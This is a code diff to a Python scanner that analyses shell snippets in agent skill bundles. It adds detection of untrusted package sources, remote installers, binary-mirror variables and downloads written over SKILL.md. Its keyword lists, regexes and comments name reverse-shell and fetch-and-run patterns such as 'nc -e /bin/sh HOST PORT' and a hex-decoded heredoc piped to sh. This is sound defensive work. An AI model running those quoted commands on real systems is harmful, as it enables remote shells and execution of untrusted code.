@@ -97,6 +97,9 @@ _WORTH_PARSING = (
     "printf", "xargs", "tee", "index-url", "registry", "ssh ", "deno", "bun ", "awk", "alias", "${user", "$user",
     "${host", "$host", "${computername", "ztcp",
     "ngrok", "cloudflared", "bore ", "frpc", "chisel", "docker", "podman", "git clone", "tar ", "unzip",
+    "msiexec", "rpm ", "yum ", "dnf ", "zypper", "choco", "winget", "nuget", "apk ", "helm", "brew tap",
+    "apt-repository", "sources.list", "repos.d", "flatpak", "scoop", "krew", "_mirror", "download_host",
+    "download_base_url", "_dist_server", "goproxy", "_cdnurl", "binary_site",
 )  # fmt: skip
 """A snippet with none of these (lower-cased) fetches, reads, sends, runs, decodes, persists and
 installs nothing the model knows: it is not parsed (most skills' shell blocks are git and ls)."""
@@ -266,6 +269,31 @@ class _Walker:
         for redirect in redirects:
             if redirect.type == "file_redirect" and _operator(redirect) not in ("<", "<&"):
                 self.write(redirect, output, body)
+            elif redirect.type == "heredoc_redirect":
+                output = self.after_heredoc(redirect, output, body)
+        return output
+
+    def settings_from(self, target: Value) -> None:
+        """A bundled file sourced (``. "$here/lib/common.sh"``, ``. config/app.env``) sets the variables
+        it assigns for the rest of this script. Its own behaviour is its own snippet's to report, so it
+        is walked here only for its assignments (not its functions: their lines are in that file)."""
+        bundled = bundled_text(target.pattern or "")
+        if bundled is None or bundled.text is None or self.depth >= MAX_DEPTH:
+            return
+        quiet = _Walker(Emitter(self.out.snippet), self.variables, Files(), self.depth + 1)
+        quiet.run(bundled.text, 0)
+
+    def after_heredoc(self, redirect: Node, output: Value, body: Node) -> Value:
+        """What follows a here-document's start on its line (``xxd -r -p <<'X' | sh``): the parser puts
+        the rest of the pipeline inside the redirect, so the command's output flows on from here."""
+        for child in redirect.named_children:
+            if child.type == "pipeline":
+                for command in child.named_children:
+                    output = self.statement(command, output)
+            elif child.type == "file_redirect" and _operator(child) not in ("<", "<&"):
+                self.write(child, output, body)
+            elif child.type not in ("heredoc_start", "heredoc_body", "heredoc_end", "heredoc_content"):
+                self.statement(child, UNKNOWN)
         return output
 
     def heredoc(self, redirect: Node) -> Value:
@@ -294,6 +322,8 @@ class _Walker:
         lowered = key.lower()
         if lowered in _INDEX_VARIABLES and value.pattern:
             self.index(self.line(node), value.pattern)
+        if lowered in _MIRROR_VARIABLES and value.pattern:
+            self.mirror(self.line(node), key, value.pattern)
         if lowered in ("histfile", "histsize", "savehist") and value.text in ("/dev/null", "0", ""):
             self.out.emit(Kind.CONCEAL, "history off", self.out.at(self.line(node), "turns shell history off"))
 
@@ -473,6 +503,7 @@ class _Walker:
             for target in args if name == "tee" else []:
                 if target.pattern and not target.pattern.startswith("-"):
                     self.files[target.pattern] = stdin
+                    self.system_sources(line, target.pattern, stdin)
                     label = vocabulary.persistence_target(target.pattern)
                     if label:
                         self.persist(line, label, target.pattern, stdin.text or "", stdin)
@@ -557,6 +588,9 @@ class _Walker:
                 copied = self.files.get(source.pattern or "", UNKNOWN) if source.pattern else UNKNOWN
                 if copied.text is None and not copied.origins:
                     copied = bundled_text(source.pattern or "") or copied
+                fetched_copy = copied.of(Source.FETCHED) or (self.extracted.origins if self.extracted else ())
+                if fetched_copy and destination.rsplit("/", 1)[-1] == "SKILL.md":
+                    self.replaces_instructions(line, destination, fetched_copy)
                 label = vocabulary.persistence_target(destination) or vocabulary.persistence_target(
                     destination.rstrip("/") + "/" + (source.pattern or "").rsplit("/", 1)[-1]
                 )
@@ -621,6 +655,11 @@ class _Walker:
             self.out.emit(
                 Kind.RAW_SOCKET, f"{where}{shelled}", self.out.at(line, f"{name} opens a raw connection to {where}"),
             )  # fmt: skip
+        for source_url in _package_source_urls(name, texts):
+            self.package_source(line, source_url, f"adds the package source {source_url} ({name})")
+        remote_package = _installed_remote_package(name, args, texts)
+        if remote_package:  # a package installer given a URL fetches the package and runs its install scripts
+            self.out.executes(line, Value(None, (self.out.fetched(line, remote_package),)), f"installs it ({name})")
         if name in ("deno", "bun") and len(args) >= 2 and texts[0] in ("run", "x", "install"):
             remote = next((a.pattern for a in args[1:] if a.pattern and _URLISH.match(a.pattern)), None)
             if remote:
@@ -863,6 +902,24 @@ class _Walker:
         if lowered.endswith(("pip.conf", "pip.ini", ".npmrc", ".yarnrc", ".yarnrc.yml", "uv.toml", ".pydistutils.cfg")):
             for url in vocabulary.urls(output.text or ""):
                 self.index(line, url)
+        self.system_sources(line, text, output)
+
+    def system_sources(self, line: int, path: str, written: Value) -> None:
+        """A package source written for the system's package manager (an apt list, a yum/dnf repo, apk's
+        repositories): what it installs from there runs as root."""
+        if not _SYSTEM_SOURCE_FILES.search(path):
+            return
+        content = written.pattern or ""
+        for url in vocabulary.urls(content):
+            self.package_source(line, url, f"adds the package source {url} ({path})", "[trusted=yes]" in content)
+
+    def package_source(self, line: int, url: str, what: str, unsigned: bool = False) -> None:
+        """A source a system or tool package manager installs from. Vendors' own HTTPS repositories are
+        normal (Docker's, NodeSource's, a Helm chart host); plain http, a bare IP, a look-alike or a
+        source whose signatures are switched off is not."""
+        if unsigned or packages.trusted_host(url) is not None:
+            shown = what + (" with signature checks off" if unsigned else "")
+            self.out.emit(Kind.INSTALL_INDEX, url, self.out.at(line, shown))
 
     def persist(self, line: int, label: str, path: str, content: str, value: Value) -> None:
         content = content or value.pattern or ""
@@ -896,6 +953,24 @@ class _Walker:
         if packages.known_index(url):
             return
         self.out.emit(Kind.INSTALL_INDEX, url, self.out.at(line, f"installs packages from the index {url}"))
+
+    def replaces_instructions(self, line: int, destination: str, fetched: tuple[Origin, ...]) -> None:
+        """Downloaded text written over a SKILL.md: the agent's instructions are whatever the server sends next."""
+        self.out.emit(
+            Kind.REMOTE_INSTRUCTIONS, fetched[0].detail,
+            fetched[0].evidence, self.out.at(line, f"replaces the skill's own instructions ({destination}) with it"),
+        )  # fmt: skip
+
+    def mirror(self, line: int, variable: str, url: str) -> None:
+        """A tool's own binaries (browsers, Node, Electron, toolchains) fetched from where ``variable`` says:
+        the tool downloads and runs them, so a mirror on plain http, a bare IP or a look-alike is an
+        untrusted source for code; a named HTTPS mirror (a company's, a country's) is taken as one."""
+        why = packages.trusted_host(url)
+        if why is not None:
+            self.out.emit(
+                Kind.INSTALL_INDEX, url,
+                self.out.at(line, f"sets {variable}: the tool downloads and runs its binaries from {url}"),
+            )  # fmt: skip
 
     def dns(self, name: str, args: list[Value], stdin: Value, line: int) -> None:
         """A lookup whose name carries data the skill read (or the user's and machine's names under
@@ -978,7 +1053,9 @@ class _Walker:
                 index += 1 if inline or (flag.startswith("-d") and len(flag) > 2) else 2
                 continue
             if flag in _OUTPUT_FLAGS or (re.fullmatch(r"-[a-zA-Z]*[oO]", flag) and flag not in _VALUE_FLAGS):
-                target = texts[index + 1] if not inline and index + 1 < len(texts) else inline
+                # a path with an unknown part ("$tmp/s.tgz") is kept as its pattern, as later commands name it
+                following = (texts[index + 1] or args[index + 1].pattern) if index + 1 < len(texts) else None
+                target = inline or following
                 output_file = target if target is not None else "?"
                 index += 1 if inline else 2
                 continue
@@ -996,11 +1073,13 @@ class _Walker:
                 continue
             if _URLISH.match(text) or (text and "." in text.split("/")[0] and not text.startswith((".", "/", "~"))):
                 urls.append(text if "://" in text else f"https://{text}")
-                if arg.origins:
+                if any(o.source is not Source.DECODED for o in arg.origins):  # a decoded address sends nothing
                     data.append(arg)
                     host_shape = text.split("://", 1)[-1].split("/", 1)[0]
                     if "*" in host_shape:  # https://$(whoami).zone/: the lookup of that name carries the data
                         self.dns(name, [Value(None, arg.origins, host_shape)], UNKNOWN, line)
+            elif arg.text is None and arg.origins and all(o.source is Source.DECODED for o in arg.origins):
+                urls.append("?")  # an address decoded at run time (curl $(echo … | base64 -d)) is still the address
             elif arg.text is None and arg.origins:
                 data.append(arg)
             elif arg.text is None:
@@ -1026,6 +1105,8 @@ class _Walker:
         if name == "curl" and "-O" in texts and urls and output_file in ("?", None):
             output_file = urls[0].rstrip("/").rsplit("/", 1)[-1]
         if output_file is not None and output_file != "-":
+            if output_file.rsplit("/", 1)[-1] == "SKILL.md" and result_origins:
+                self.replaces_instructions(line, output_file, tuple(result_origins))
             self.files[output_file] = fetched
             self.files["./" + output_file.lstrip("./")] = fetched
             return UNKNOWN
@@ -1116,6 +1197,7 @@ class _Walker:
             if target.text in ("/dev/stdin", "-", "/proc/self/fd/0"):
                 content = stdin
             self.out.executes(line, content, f"runs it ({name} {target.shown})")
+            self.settings_from(target)
             return UNKNOWN
         index = 0
         while index < len(texts):
@@ -1247,11 +1329,14 @@ class _Walker:
         positional = []
         flags = [t for t in texts if t and t.startswith("-")]
         skip = False
-        for text in texts:
+        for index, text in enumerate(texts):
+            following = texts[index + 1] if index + 1 < len(texts) else None
             if skip:
                 skip = False
             elif text and text in ("-w", "-p", "-s", "-i", "-q", "-W", "-X", "-x", "-O", "-I", "-T", "-g", "-G"):
                 skip = True
+            elif text in ("-e", "--exec", "--sh-exec", "-c") and _program_word(following):
+                skip = True  # nc -e /bin/sh HOST PORT: the program run, not the host
             elif text and not text.startswith("-"):
                 positional.append(text)
         if name == "openssl":
@@ -1616,6 +1701,81 @@ _INDEX_VARIABLES = frozenset(
     {"pip_index_url", "pip_extra_index_url", "uv_index_url", "uv_extra_index_url", "uv_index", "uv_default_index",
      "npm_config_registry", "yarn_registry", "poetry_repositories_default_url", "pip_find_links"}
 )  # fmt: skip
+_PACKAGE_RUNNERS: dict[str, tuple[str, ...]] = {
+    "msiexec": ("/i", "/package", "-i", "/a", "/j", "/update", "/p"),
+    "rpm": ("-i", "-U", "-F", "--install", "--upgrade", "-ivh", "-Uvh", "-iv", "-Uv"),
+    "yum": ("install", "localinstall", "reinstall"),
+    "dnf": ("install", "reinstall"),
+    "zypper": ("install", "in"),
+}
+"""Package installers that accept a URL: they fetch the package and run its install-time code (an
+MSI's custom actions, an RPM's scriptlets), often as root."""
+
+
+_SYSTEM_SOURCE_FILES = re.compile(
+    r"/etc/apt/sources\.list(?:\.d/[^/]+)?$|/etc/yum\.repos\.d/[^/]+$|/etc/zypp/repos\.d/[^/]+$|/etc/apk/repositories$"
+    r"|/etc/pacman\.conf$|/etc/pacman\.d/[^/]+$"
+)
+_SOURCE_FLAGS = frozenset({"--source", "-s", "-source", "--repository", "-x", "--add-repo", "--repo", "--index"})
+_SOURCE_COMMANDS = frozenset({"choco", "winget", "nuget", "dotnet", "apk", "dnf", "yum", "zypper", "helm", "brew",
+                              "add-apt-repository", "snap", "flatpak", "scoop", "krew", "kubectl-krew"})  # fmt: skip
+
+
+_SOURCE_ADDING = frozenset(
+    {("helm", "repo"), ("brew", "tap"), ("zypper", "ar"), ("zypper", "addrepo"), ("flatpak", "remote-add"),
+     ("scoop", "bucket"), ("dnf", "config-manager"), ("yum", "config-manager"), ("add-apt-repository", "")}
+)  # fmt: skip
+
+
+def _package_source_urls(name: str, texts: list[str | None]) -> list[str]:
+    """URLs a package manager is told to install from: ``--source``/``-s``/``--repository``/``-X``/
+    ``--add-repo`` values, ``helm repo add N URL``, ``brew tap N URL``, ``zypper ar URL``,
+    ``flatpak remote-add N URL``, ``scoop bucket add N URL``, ``add-apt-repository 'deb URL …'``."""
+    if name not in _SOURCE_COMMANDS:
+        return []
+    words = [t or "" for t in texts]
+    found = [words[i + 1] for i, w in enumerate(words[:-1]) if w.lower() in _SOURCE_FLAGS]
+    found += [w.split("=", 1)[1] for w in words if w.lower().startswith(("--source=", "--repository="))]
+    verb = words[0] if words and name != "add-apt-repository" else ""
+    if (name, verb) in _SOURCE_ADDING:
+        found += [u for w in words for u in vocabulary.urls(w)]
+    return [url for url in dict.fromkeys(found) if _URLISH.match(url.strip("'\""))]
+
+
+def _program_word(word: str | None) -> bool:
+    """``word`` names a program to run (``/bin/sh``, ``bash``, ``"sh -i"``), as ``nc -e``/``-c`` take."""
+    if not word:
+        return False
+    return word.startswith("/") or " " in word or vocabulary.command_name(word) in vocabulary.SHELLS
+
+
+def _installed_remote_package(name: str, args: list[Value], texts: list[str | None]) -> str | None:
+    """The URL ``name`` installs or runs a package from, when it is given one."""
+    verbs = _PACKAGE_RUNNERS.get(name)
+    if verbs is None:
+        return None
+    clustered = name == "rpm" and any(re.match(r"^-[a-zA-Z]*[iUF]", t or "") for t in texts)
+    if not clustered and not any((t or "").lower() in verbs for t in texts):
+        return None
+    for arg in args:
+        text = (arg.pattern or "").strip("\"'")
+        if _URLISH.match(text) and not text.startswith("//"):
+            return text
+    return None
+
+
+_MIRROR_VARIABLES = frozenset(
+    {"playwright_download_host", "playwright_chromium_download_host", "playwright_firefox_download_host",
+     "playwright_webkit_download_host", "puppeteer_download_host", "puppeteer_download_base_url",
+     "electron_mirror", "electron_custom_dir", "sass_binary_site", "chromedriver_cdnurl", "geckodriver_cdnurl",
+     "nvm_nodejs_org_mirror", "nodejs_org_mirror", "n_node_mirror", "fnm_node_dist_mirror", "volta_node_mirror",
+     "rustup_dist_server", "rustup_update_root", "python_build_mirror_url", "goproxy", "gotoolchain_mirror",
+     "homebrew_bottle_domain", "homebrew_api_domain", "homebrew_artifact_domain", "cypress_download_mirror",
+     "npm_config_disturl", "npm_config_electron_mirror", "node_mirror", "sdkman_candidates_api", "bun_install",
+     "deno_install", "pyenv_mirror_url", "uv_python_install_mirror", "uv_installer_ghe_base_url",
+     "uv_installer_github_base_url", "cargo_dist_mirror"}
+)  # fmt: skip
+"""Variables that move where a tool fetches its own binaries or toolchains (which it then runs)."""
 _INLINE_SOCKET = re.compile(
     r"fsockopen|IO::Socket|Socket::INET|TCPSocket|socket\.connect|net\.connect|net\.Socket|/dev/tcp"
     r"|\bsocket\s*\([^)]*\)[^;]*;.*\bconnect\s*\("
